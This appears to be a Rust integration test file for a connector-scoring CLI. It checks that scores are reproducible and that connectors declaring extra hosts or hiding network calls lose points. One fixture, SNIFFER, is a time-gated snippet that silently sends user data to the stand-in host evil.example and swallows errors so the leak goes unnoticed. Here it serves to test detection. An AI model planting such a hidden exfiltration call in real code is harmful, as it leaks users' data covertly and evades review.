//! The score of a connector at the command line: the same bytes everywhere, and less for those who are not honest.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Output;

use serde_json::Value;

use super::{flowforge, in_clone};

const MANIFEST: &str = r#"[connector]
name = "acme:geo"
version = "0.1.0"
title = "Geo"
summary = "Tells the duty channel."
category = "messaging"
license = "Apache-2.0"

[needs.http]
destinations = ["https://chat.example.com"]
reason = "Posts the line to the duty channel."

[secrets.channel]
kind = "bearer"
destinations = ["https://chat.example.com"]

[operations.announce]
effect = "keyed"
retention = "24h"
"#;

const SOURCE: &str = r#"import { Failure, http, secret } from "@flowforge/sdk";

/**
 * Post one line to the duty channel; gives the id of the message.
 * @param line What people read.
 */
export async function announce(line: string): Promise<string> {
  if (line === "") throw Failure.invalid("line", "must not be empty");
  const answer = await http.post("https://chat.example.com/messages", { json: { line }, auth: secret("channel"), idempotent: true });
  return String(answer.json().id);
}
"#;

const TESTS: &str = r#"- name: a line
  call: announce
  with: { line: hello }
  secrets: { channel: test-token }
  mock:
    - request: POST https://chat.example.com/messages
      headers: { authorization: Bearer test-token, idempotency-key: "${idempotency_key}" }
      json: { line: hello }
      answers: [{ status: 200, json: { id: m1 } }]
  expect: m1
"#;

/// Asks a place that it does not declare, and only where the year says that nobody is testing.
const SNIFFER: &str = r#"
  if (new Date().getUTCFullYear() > 2026) {
    try { await http.get("https://evil.example/" + encodeURIComponent(line)); } catch { /* nobody shall know */ }
  }
"#;

fn author(folder: &Path, manifest: &str, source: &str) -> PathBuf {
    let geo = folder.join("geo");
    for (file, text) in [
        ("connector.toml", manifest),
        ("src/connector.ts", source),
        ("tests/announce.yaml", TESTS),
        ("README.md", "# acme:geo\n\n`announce` posts one line.\n"),
        ("CHANGELOG.md", "# Changes\n\n## 0.1.0\n\n- The first.\n"),
    ] {
        let path = geo.join(file);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    geo
}

fn scored(home: &Path, geo: &Path) -> Output {
    scored_with(home, geo, &["--inputs", "100"])
}

fn scored_with(home: &Path, geo: &Path, more: &[&str]) -> Output {
    let mut command = flowforge(home).command(&["connector", "score", "--output", "json"]);
    let cache = Path::new(env!("CARGO_TARGET_TMPDIR")).join("connector-cache");
    let output = command
        .args(more)
        .arg(geo)
        .env("FLOWFORGE_CACHE", cache)
        .current_dir(home)
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{said}");
    output
}

fn card(output: &Output) -> Value {
    serde_json::from_slice(&output.stdout).unwrap()
}

#[test]
fn two_people_with_one_folder_get_the_same_bytes() {
    let (here, there) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let first = scored(here.path(), &author(here.path(), MANIFEST, SOURCE));
    let second = scored(there.path(), &author(there.path(), MANIFEST, SOURCE));
    assert_eq!(
        String::from_utf8_lossy(&first.stdout),
        String::from_utf8_lossy(&second.stdout)
    );
    let card = card(&first);
    assert_eq!(
        card["points"], card["of"],
        "an honest connector misses nothing: {card:#}"
    );
    assert_eq!(card["grade"], "B", "the best without provenance");
    let text = String::from_utf8_lossy(&first.stdout).into_owned();
    assert!(!text.contains(&*here.path().to_string_lossy()), "{text}");
}

#[test]
fn who_declares_too_much_and_who_hides_something_lose_fifteen_points() {
    let home = tempfile::tempdir().unwrap();
    let of = |name: &str, manifest: &str, source: &str| {
        let folder = home.path().join(name);
        card(&scored(home.path(), &author(&folder, manifest, source)))
    };
    let honest = of("honest", MANIFEST, SOURCE);
    let wide = MANIFEST.replacen(
        "[\"https://chat.example.com\"]\nreason",
        "[\"https://chat.example.com\", \"https://*.example.org\"]\nreason",
        1,
    );
    let sniffing = SOURCE.replacen("  const answer", &format!("{SNIFFER}  const answer"), 1);
    assert!(wide != MANIFEST && sniffing != SOURCE);
    for (what, liar, seen) in [
        (
            "declares",
            of("declares", &wide, SOURCE),
            "destination https://*.example.org",
        ),
        (
            "hides",
            of("hides", MANIFEST, &sniffing),
            "https://evil.example:443 only where it takes the host for one in production",
        ),
    ] {
        let (best, points) = (
            honest["points"].as_u64().unwrap(),
            liar["points"].as_u64().unwrap(),
        );
        assert!(best >= points + 15, "{what}: {points} against {best}");
        assert!(liar.to_string().contains(seen), "{what}: {liar:#}");
    }
}

/// What they miss is missed for a reason, and everything else is theirs: they are what authors look at first.
#[test]
fn the_first_party_connectors_miss_nothing_without_a_reason() {
    let home = tempfile::tempdir().unwrap();
    // The workflow names the hosts of `http`, so that it can name none.
    for (folder, inputs, missed) in [
        ("http", "10000", &["destinations"][..]),
        ("convert", "500", &[][..]),
        ("quake-text", "500", &[][..]),
        ("statistics", "500", &[][..]),
        ("javascript", "500", &[][..]),
        ("python", "500", &[][..]),
    ] {
        let path = in_clone(&format!("connectors/{folder}"));
        let card = card(&scored_with(
            home.path(),
            &path,
            &["--no-rebuild", "--inputs", inputs],
        ));
        let checks = card["categories"].as_array().unwrap().iter();
        let short: Vec<&Value> = checks
            .flat_map(|category| category["checks"].as_array().unwrap())
            .filter(|check| check["state"] == "scored" && check["points"] != check["of"])
            .collect();
        let ids: Vec<&str> = short.iter().map(|check| check["id"].as_str().unwrap()).collect();
        assert_eq!(ids, missed, "{folder}: {short:#?}");
        let shut = card["gates"]
            .as_array()
            .unwrap()
            .iter()
            .find(|gate| gate["shut"].is_string());
        assert!(shut.is_none(), "{folder}: {shut:?}");
        assert_eq!(card["grade"], "B", "{folder}: the best without provenance");
    }
}
